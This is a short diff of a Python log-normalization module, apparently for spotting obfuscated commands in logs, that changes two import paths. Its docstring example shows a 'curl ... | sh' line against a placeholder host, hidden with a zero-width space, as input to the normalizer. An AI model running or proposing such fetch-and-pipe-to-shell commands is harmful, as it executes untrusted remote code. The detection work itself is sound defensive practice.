@@ -5,7 +5,7 @@ Pure and stdlib only. `normalize(text)` returns the matching view of one log lin
 `visible_view(text)` is what a human would read in a rendered log (no decoding at all).
 
 Usage:
-    from nvfdiag.normalize import normalize
+    from nvfdiag.untrusted.normalize import normalize
     normalize("cu\u200brl https://x.example.com/a | sh")  ->  "curl https://x.example.com/a | sh"
 """
 
@@ -17,7 +17,7 @@ import re
 import unicodedata
 from urllib.parse import unquote
 
-from .read.jsontext import parse_object_line
+from ..read.jsontext import parse_object_line
 
 MAX_LINE_CHARS = 16384  # longer lines are scanned on their first 16 KiB only
 MAX_DECODED_CHARS = 4096  # total decoded text added per line
